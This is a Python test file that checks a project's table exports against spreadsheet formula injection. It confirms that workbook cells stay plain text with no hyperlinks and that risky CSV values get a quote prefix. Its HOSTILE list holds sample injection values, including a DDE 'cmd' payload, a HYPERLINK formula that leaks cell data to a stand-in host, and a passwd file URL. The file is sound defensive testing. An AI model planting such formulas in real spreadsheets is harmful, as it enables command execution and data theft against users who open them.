"""Does a text in a table stay a text, whichever program opens it?"""

from __future__ import annotations

import ast
import csv
from io import StringIO
from pathlib import Path

import openpyxl
import pytest

from tests.house.tree import modules, name_of
from wangfang.interfaces.console.importing.findings import Findings
from wangfang.interfaces.console.importing.rows import RowError
from wangfang.interfaces.frame.cells import in_csv

HOSTILE = ["=1+1", "+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "=cmd|'/c calc'!A0", "＝1+1", "＋1", "－1", "＠x", " =1", "|x",
           '=HYPERLINK("http://elsewhere.example/?"&A1)', "{=1}", "http://elsewhere.example", "file:///etc/passwd"]  # fmt: skip
ALLOWED = {"src/wangfang/interfaces/frame/cells.py"}
CSV = {"src/wangfang/interfaces/console/due.py", "src/wangfang/interfaces/console/bench/table.py"}


def test_in_a_workbook_every_text_is_typed_as_text(tmp_path: Path) -> None:
    with Findings(("标题",), tmp_path / "e.xlsx") as findings:
        for number, text in enumerate(HOSTILE, 2):
            findings.add_row(RowError(number, text, "为什么", (text,)))
    sheet = openpyxl.load_workbook(tmp_path / "e.xlsx").worksheets[0]
    cells = [sheet.cell(number, 4) for number in range(2, len(HOSTILE) + 2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert not any(cell.hyperlink for cell in cells)
    assert cells[0].value == "=1+1", "it can be mended and read in again"


@pytest.mark.parametrize("text", HOSTILE[:13])
def test_in_csv_a_beginning_that_may_be_a_formula_is_marked(text: str) -> None:
    written = StringIO()
    csv.writer(written).writerow([in_csv(text)])
    assert next(csv.reader(StringIO(written.getvalue(), newline="")))[0] == f"'{text}"
    assert in_csv("屋顶漏雨 = 1") == "屋顶漏雨 = 1"


def test_no_other_module_writes_tables() -> None:
    found: dict[str, set[str]] = {"xlsxwriter": set(), "csv": set()}
    for path, tree in modules():
        for node in ast.walk(tree):
            if (
                isinstance(node, ast.Attribute)
                and node.attr in {"Workbook", "writer", "DictWriter"}
                and isinstance(node.value, ast.Name)
            ):
                found.get(node.value.id, set()).add(name_of(path))
    assert found == {"xlsxwriter": ALLOWED, "csv": CSV}, "CSV is written by who knows `frame.cells`"
